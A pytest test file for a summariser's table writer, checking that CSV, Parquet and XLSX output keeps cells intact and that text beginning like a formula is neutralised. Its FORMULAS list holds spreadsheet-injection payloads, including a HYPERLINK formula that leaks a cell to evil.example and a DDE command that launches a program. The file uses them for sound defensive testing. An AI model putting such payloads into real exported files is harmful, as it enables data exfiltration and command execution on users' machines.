"""Tables: the same cells in every format, days as days, and no text that a spreadsheet program takes for a formula."""

import csv
import gc
import io
import shutil
import subprocess
import sys
import tempfile
import tracemalloc
import zipfile
from collections.abc import Iterable
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from summariser import summarise
from summariser.render.tables import FORMATS, Row, opened
from summariser.schema import COLUMNS, Evidence, Risk, Summary
from summariser.testing import FakeModel
from tests.loopback import Loopback, answers, fails
from tests.small_suite import Small
from tests.test_cli import one_sentence
from tests.test_configuration import Here
from tests.test_pipeline import ANSWER, TEXT, changed, made

READERS = {"csv": "csv", "parquet": "pyarrow.parquet", "xlsx": "python_calamine"}
TYPES = {"text": str, "number": float, "count": int, "truth": bool, "day": date}
ROWS: list[Row] = [
    {"text": "Zürich, “der” 港; “x” \U0001f600", "number": -0.25, "count": -3, "truth": True, "day": date(2024, 6, 19)},
    {"text": 'one "word"\nand two\n\nlines', "number": 1.0, "truth": False},
    {"text": "", "number": None, "count": 0},
    {"day": date(2025, 2, 28)},
]


def cells(rows: Iterable[Row], columns: dict[str, type]) -> list[list[object]]:
    """The rows as lists, with None for an empty cell."""
    return [[row.get(name) or (None if row.get(name) == "" else row.get(name)) for name in columns] for row in rows]


def write(path: Path, rows: Iterable[Row], columns: dict[str, type] = TYPES, *, bom: bool = False) -> Path:
    """Write a table into a file whose ending names the format."""
    with opened(path, path.suffix[1:], columns, bom=bom) as table:
        for row in rows:
            table.write(row)
    return path


def read(path: Path, columns: dict[str, type] = TYPES) -> list[list[object]]:
    """Read a table with a library that did not write it; the types of CSV are those of the columns."""
    header, *rows = READ[path.suffix[1:]](path)
    assert header == [*columns]
    return [[_typed(value, type) for value, type in zip(row, columns.values(), strict=True)] for row in rows]


def _typed(value: object, type: type) -> object:
    if value in ("", None):
        return None
    if type is bool:
        return str(value) == "True"
    if type is date:
        return date.fromisoformat(str(value))
    return type(value)


def _read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.reader(file, strict=True))


def _read_parquet(path: Path) -> list[list[object]]:
    table = pytest.importorskip("pyarrow.parquet").read_table(path)
    return [table.column_names, *([*row.values()] for row in table.to_pylist())]


def _read_xlsx(path: Path) -> list[list[object]]:
    book = pytest.importorskip("python_calamine").CalamineWorkbook.from_path(path)
    return book.get_sheet_by_index(0).to_python(skip_empty_area=False)


READ = {"csv": _read_csv, "parquet": _read_parquet, "xlsx": _read_xlsx}


@pytest.fixture(autouse=True)
def _libraries() -> None:
    for name in ("pyarrow", "xlsxwriter", "python_calamine"):
        pytest.importorskip(name)


# ── the cells ────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("format", FORMATS)
def test_a_table_gives_the_cells_back_that_were_written(tmp_path: Path, format: str):
    assert read(write(tmp_path / f"t.{format}", ROWS)) == cells(ROWS, TYPES)


@pytest.mark.parametrize("format", FORMATS)
def test_a_table_without_rows_has_its_columns(tmp_path: Path, format: str):
    assert read(write(tmp_path / f"t.{format}", [])) == []


def test_days_and_numbers_are_cells_of_their_own_types(tmp_path: Path):
    assert _read_xlsx(write(tmp_path / "t.xlsx", ROWS))[1][1:] == [-0.25, -3.0, True, date(2024, 6, 19)]
    schema = pytest.importorskip("pyarrow.parquet").read_schema(write(tmp_path / "t.parquet", ROWS))
    assert [str(kind) for kind in schema.types] == ["string", "double", "int64", "bool", "date32[day]"]


def test_a_day_before_those_that_spreadsheets_count_is_text(tmp_path: Path):
    rows = [{"day": date(1899, 12, 31)}, {"day": date(1900, 2, 28)}, {"day": date(1900, 3, 1)}]
    shown = [row[-1] for row in _read_xlsx(write(tmp_path / "t.xlsx", rows))[1:]]
    assert shown == ["1899-12-31", "1900-02-28", date(1900, 3, 1)]


def test_csv_follows_its_standard_and_begins_with_a_byte_order_mark_only_if_asked(tmp_path: Path):
    assert write(tmp_path / "t.csv", [{"text": "a; b"}]).read_bytes().endswith(b'\r\n"a; b",,,,\r\n')
    plain = write(tmp_path / "t.csv", ROWS[1:2]).read_bytes()
    assert plain == (b"text,number,count,truth,day\r\n" + b'"one ""word""\nand two\n\nlines",1.0,,False,\r\n')
    assert write(tmp_path / "t.csv", ROWS[1:2], bom=True).read_bytes() == b"\xef\xbb\xbf" + plain


def test_text_that_no_file_can_hold_is_written_in_escapes(tmp_path: Path):
    for format in FORMATS:
        (row,) = read(write(tmp_path / f"t.{format}", [{"text": "caf\udce9.txt"}]))
        assert row[0] == "caf\\udce9.txt"


def test_a_text_too_long_for_a_cell_of_xlsx_says_where_it_is_cut_and_is_whole_elsewhere(tmp_path: Path):
    fits, long = "\U0001f600" * 16_383, "x" + "\U0001f600" * 20_000
    rows = [{"text": fits}, {"text": long}]
    for format in ("csv", "parquet"):
        assert [row[0] for row in read(write(tmp_path / f"t.{format}", rows))] == [fits, long]
    first, second = (str(row[0]) for row in read(write(tmp_path / "t.xlsx", rows)))
    assert first == fits
    kept, said = second.split(" … (cut here")
    assert long.startswith(kept) and len(kept) > 16_000
    assert "CSV and Parquet have all of it" in said
    assert len(second.encode("utf-16-le")) <= 2 * 32_767


def test_a_value_for_a_column_that_is_not_there_is_an_error(tmp_path: Path):
    with pytest.raises(ValueError, match="no column colour"):
        write(tmp_path / "t.csv", [{"colour": "red"}])


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="this system has no /dev/full")
@pytest.mark.parametrize("format", FORMATS)
def test_a_full_disk_is_the_error_of_the_system_and_leaves_nothing_behind(
    tmp_path: Path, format: str, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with pytest.raises(OSError, match="No space left"), opened("/dev/full", format, TYPES) as table:
        for line in ROWS * 100:
            table.write(line)
    gc.collect()
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("format", FORMATS)
def test_memory_does_not_grow_with_the_rows(tmp_path: Path, format: str):
    def peak(count: int) -> int:
        tracemalloc.start()
        write(tmp_path / f"t.{format}", ({"text": f"row {number} of many " * 8} for number in range(count)))
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return most

    peak(10)  # imports the library
    assert peak(15_000) < 1.3 * peak(5_000)


@pytest.mark.slow
def test_rows_that_do_not_fit_on_a_sheet_go_to_the_next(tmp_path: Path):
    path = write(tmp_path / "t.xlsx", ({"n": number} for number in range(1_048_600)), {"n": int})
    book = pytest.importorskip("python_calamine").CalamineWorkbook.from_path(path)
    first, second = (book.get_sheet_by_name(name).to_python() for name in book.sheet_names)
    assert [row[0] for row in first + second] == ["n", *range(1_048_575), "n", *range(1_048_575, 1_048_600)]


# ── formulas ─────────────────────────────────────────────────────────────────────────────────────

FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"read")', "=1+1", "+1+1", "-1+1", "-5", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
    "＝1+1", "＋1", "－1", "＠x", "  =1+1", "\u00a0=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "a;=1+1", 'a;"=1+1";b',
    "a\n=1+1", "a\t-1+1", "- a point of a list",
)  # fmt: skip
HARMLESS = ("a = b", "1+1", "a, -1", "x@example.org", "“=1”", "a; b; c", "'=1'", "–5 degrees")
BEGINS = tuple("=+-@＝＋－＠")


def test_a_text_that_begins_like_a_formula_begins_with_an_apostrophe_in_csv(tmp_path: Path):
    written_ = [row[0] for row in _read_csv(write(tmp_path / "t.csv", [{"text": text} for text in FORMULAS]))[1:]]
    assert [text for text in written_ if text.lstrip().startswith(BEGINS)] == []
    assert [text.replace("'", "") for text in written_] == [text.replace("'", "") for text in FORMULAS]


def test_other_texts_and_numbers_are_left_as_they_are(tmp_path: Path):
    rows: list[Row] = [{"text": text, "number": -1.5, "count": -2} for text in HARMLESS]
    assert [row[:3] for row in _read_csv(write(tmp_path / "t.csv", rows))[1:]] == [
        [text, "-1.5", "-2"] for text in HARMLESS
    ]


@given(st.lists(st.text(alphabet='=+-@;\t\n\r "a,＝'), min_size=1, max_size=3), st.sampled_from(";\t"))
def test_no_program_that_separates_cells_otherwise_finds_a_formula(texts: list[str], separator: str):
    out = io.StringIO()
    columns = {f"c{number}": str for number in range(len(texts) + 1)}
    with opened(out, "csv", columns) as table:
        table.write(dict(zip(columns, ["first", *texts], strict=True)))
    lines = out.getvalue().splitlines(keepends=True)
    for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
        found = [cell for row in csv.reader(lines, delimiter=separator, quoting=quoting) for cell in row]
        assert [cell for cell in found if cell.lstrip().startswith(BEGINS)] == []


def test_xlsx_keeps_such_a_text_unchanged_in_a_cell_that_is_text(tmp_path: Path):
    path = write(tmp_path / "t.xlsx", [{"text": text} for text in FORMULAS])
    assert [row[0] for row in _read_xlsx(path)[1:]] == [*FORMULAS]
    with zipfile.ZipFile(path) as parts:
        sheet = parts.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in sheet and b"<hyperlink" not in sheet
        assert b'quotePrefix="1"' in parts.read("xl/styles.xml")


# ── the rows of a Summary ────────────────────────────────────────────────────────────────────────

COMMITMENT = {
    **ANSWER["commitments"][0],
    "by": ["Arlen"],
    "to": ["Bocia"],
    "said_by": "Ana Belmar",
    "condition": "if the price is fair",
    "deadline": "by 30 June 2031",
}


def row(summary: Summary, item: str) -> Row:
    return next(row for row in summary.to_rows() if row["item"] == item)


def test_names_stand_beside_ids_and_it_is_said_who_said_it():
    summary = summarise(TEXT, model=FakeModel(changed(commitments=[COMMITMENT])))
    commitment, reaction, risk, party = (row(summary, id) for id in ("C1", "R1", "K1", "P3"))
    assert {name: commitment[name] for name in ("who", "who_ids", "to", "to_ids", "said_by", "said_by_ids")} == {
        "who": "Arlen", "who_ids": "P1", "to": "Bocia", "to_ids": "P2", "said_by": "Ana Belmar", "said_by_ids": "P3",
    }  # fmt: skip
    assert (reaction["who"], reaction["said_by"], reaction["to"]) == ("Ana Belmar", "Ana Belmar", "treaty")
    assert reaction["quote"] == "a fair price for peace"
    assert (risk["said_by"], risk["said_by_ids"]) == (risk["who"], risk["who_ids"])
    assert (party["who"], party["who_ids"], party["to"], party["to_ids"]) == ("Ana Belmar", "P3", "Arlen", "P1")
    assert "said_by" not in row(made(), "C1")  # the report says it


def test_a_deadline_has_its_words_and_its_day_and_an_item_its_place():
    commitment = row(summarise(TEXT, model=FakeModel(changed(commitments=[COMMITMENT]))), "C1")
    assert (commitment["deadline"], commitment["deadline_date"]) == ("by 30 June 2031", date(2031, 6, 30))
    start, end = map(int, str(commitment["characters"]).split("–"))
    assert (commitment["sentences"], TEXT[start:end]) == ("2", commitment["evidence"])


def test_every_item_that_is_not_supported_says_why_and_no_cell_says_none():
    risk = Risk(
        id="K2", risk="a strike", raised_by=None, affects=(), basis="inferred", rests_on=("C1", "K1"), evidence=(),
        verdict="not_enough_info", verified=False,
    )  # fmt: skip
    lost = Evidence(sentences=(), start=None, end=None, text=None, match="missing")
    unread = {"field": "risk", "outcome": "read", "reason": ""}
    bare = Risk(
        id="K3", risk="rain", raised_by=None, affects=(), evidence=(lost,), verdict="not_enough_info", verified=False
    )
    vague = bare.model_copy(update={"id": "K4", "evidence": made().risks[0].evidence})
    vague = Risk.model_validate({**vague.model_dump(), "checks": [unread]})
    before = summarise(
        TEXT, model=FakeModel(changed(risks=[ANSWER["risks"][0], {**ANSWER["risks"][0], "risk": "war"}]))
    )
    summary = before.model_copy(update={"risks": (before.risks[0], risk, bare, vague)})
    rows = summary.to_rows()
    assert {str(row["verdict"]) for row in rows} >= {"supported", "not_enough_info"}
    assert [row["item"] for row in rows if ("reason" in row) == (row["verdict"] == "supported")] == []
    assert row(summary, "K2")["reason"] == "A model concluded it from other items; the text does not say it."
    assert row(summary, "K3")["reason"] == "No sentence of the text was found for it."
    assert row(summary, "K4")["reason"] == "The harm: No words of the text say it."
    assert row(summary, "K2")["rests_on"] == "C1; K1"
    assert [value for row in rows for value in row.values() if value in (None, "", "None")] == []


# ── the command line ─────────────────────────────────────────────────────────────────────────────


@pytest.fixture
def cli(tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Here:
    return Here(Small(tmp_path, capsys, monkeypatch))


@pytest.mark.parametrize("format", FORMATS)
def test_several_sources_make_one_table_in_which_a_source_that_fails_says_why(cli: Here, format: str):
    (cli.folder / "b.txt").write_text(TEXT + "It rained.", "utf-8")
    with Loopback([answers(ANSWER), answers(ANSWER)]) as server:
        cli.use(server)
        ran = cli("summarise", cli.article, "none.txt", "b.txt", "-o", f"t.{format}")
    assert ran.returncode == 2
    columns = list(COLUMNS)
    rows = [dict(zip(columns, cells, strict=True)) for cells in read(cli.folder / f"t.{format}", COLUMNS)]
    documents = [(Path(str(row["source"])).name, row["label"]) for row in rows if row["kind"] == "document"]
    assert documents == [("article.txt", "ok"), ("b.txt", "ok"), ("none.txt", None)]
    assert "none.txt" in str(rows[-1]["error"])
    assert [row["who"] for row in rows if row["item"] == "C1"] == ["Arlen; Bocia"] * 2


def test_a_single_source_that_fails_writes_no_table(cli: Here):
    with Loopback([fails(400)]) as server:
        cli.use(server)
        assert cli("summarise", cli.article, "-o", "t.csv").returncode == 3
    assert not (cli.folder / "t.csv").exists()


def test_an_incomplete_summary_says_in_the_table_what_is_missing(cli: Here):
    with Loopback([answers({"parties": ANSWER["parties"]})], otherwise=fails(401, "no")) as server:
        cli.use(server)
        ran = cli("summarise", cli.article, "--prompt", "sections@1", "-f", "csv")
    first = next(csv.DictReader(io.StringIO(ran.stdout)))
    assert (ran.returncode, first["label"]) == (3, "partial")
    assert first["error"].startswith("The call for commitments failed")


@pytest.mark.parametrize("command", ["summarise", "batch"])
def test_csv_goes_to_standard_output_with_a_byte_order_mark_if_asked(cli: Here, command: str):
    with Loopback([answers(ANSWER), answers(ANSWER)]) as server:
        cli.use(server)
        plain = cli(command, cli.article, "--no-store", "-f", "csv").stdout
        marked = cli(command, cli.article, "--no-store", "-f", "csv", "--bom").stdout
    assert plain.startswith("id,source,") and marked == "\ufeff" + plain


@pytest.mark.parametrize("command", ["summarise", "batch"])
def test_what_no_table_can_be_is_refused_before_any_request(cli: Here, command: str, monkeypatch: pytest.MonkeyPatch):
    with Loopback() as server:
        cli.use(server)
        for format, name in (("parquet", "Parquet"), ("xlsx", "XLSX")):
            said = f"{name} cannot be written to standard output", "the argument output (--output)"
            one_sentence(cli(command, cli.article, "-f", format), 2, *said)
        one_sentence(cli(command, cli.article, "-o", "t.jsonl", "--bom"), 2, "--bom is for CSV", "format is jsonl")
        monkeypatch.setitem(sys.modules, "xlsxwriter", None)
        one_sentence(cli(command, cli.article, "-o", "t.xlsx"), 2, "XLSX needs xlsxwriter", "pip install '.[xlsx]'")
    assert (server.requests, list(cli.folder.glob("t.*"))) == ([], [])


# ── LibreOffice ──────────────────────────────────────────────────────────────────────────────────

OFFICE = shutil.which("soffice")
CSV_FILTER = "Text - txt - csv (StarCalc):{},34,76,1"
"""LibreOffice's filter for CSV: separators, quotation mark, UTF-8, from the first line on; the rest as by default."""
COMMA, COMMA_SEMICOLON_TAB = "44", "44/59/9"
"""Separators; the second are those that LibreOffice offers when somebody opens a file."""
office = pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed (Debian package libreoffice-calc)")


def converted(path: Path, ending: str, *options: str) -> Path:
    """Open a file in LibreOffice, without a window and with settings of its own, and save it in another format."""
    folder = path.parent / "converted"
    command = [str(OFFICE), f"-env:UserInstallation=file://{path.parent}/office", "--headless", *options]
    command += ["--convert-to", ending, "--outdir", str(folder), str(path)]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    return folder / path.with_suffix(f".{ending.split(':', maxsplit=1)[0]}").name


def shown(value: object) -> str:
    """A cell as LibreOffice shows it."""
    return f"{value:g}" if isinstance(value, float) else str(value)


def summary_rows() -> list[Row]:
    """The rows of a Summary, whose texts are hostile as well."""
    answer = changed(
        commitments=[COMMITMENT, *({**COMMITMENT, "action": text, "condition": text} for text in FORMULAS)],
    )
    return summarise(TEXT, model=FakeModel(answer), published=date(2024, 6, 19)).to_rows() + [
        {"text": text, "published": date(2024, 6, 19), "confidence": 0.25} for text in (*FORMULAS, *HARMLESS)
    ]


@pytest.mark.slow
@office
@pytest.mark.parametrize(("bom", "separators"), [(False, COMMA), (True, COMMA), (False, COMMA_SEMICOLON_TAB)])
def test_csv_opened_in_libreoffice_gives_the_same_cells_and_computes_nothing(
    tmp_path: Path, bom: bool, separators: str
):
    path = write(tmp_path / "t.csv", summary_rows(), COLUMNS, bom=bom)
    opened_ = converted(path, "xlsx:Calc MS Excel 2007 XML", f"--infilter={CSV_FILTER.format(separators)}")
    expected = [[shown(cell).replace("\r", "\n") for cell in row] for row in _read_csv(path)]  # one line break for both
    if bom:
        expected[0][0] = expected[0][0].removeprefix("\ufeff")
    assert [[shown(cell) for cell in row] for row in _read_xlsx(opened_)] == expected
    with zipfile.ZipFile(opened_) as parts:
        assert b"<f" not in parts.read("xl/worksheets/sheet1.xml")


@pytest.mark.slow
@office
def test_xlsx_opened_in_libreoffice_gives_the_same_cells_and_computes_nothing(tmp_path: Path):
    rows = [row for row in summary_rows() if "\r" not in str(row.get("text"))]  # which CSV read by Python keeps apart
    path = write(tmp_path / "t.xlsx", rows, COLUMNS)
    opened_ = _read_csv(converted(path, "csv:" + CSV_FILTER.format(COMMA)))
    expected = [["" if cell is None else shown(cell) for cell in cells_] for cells_ in cells(rows, COLUMNS)]
    assert [[{"TRUE": "True", "FALSE": "False"}.get(cell, cell) for cell in row] for row in opened_[1:]] == expected
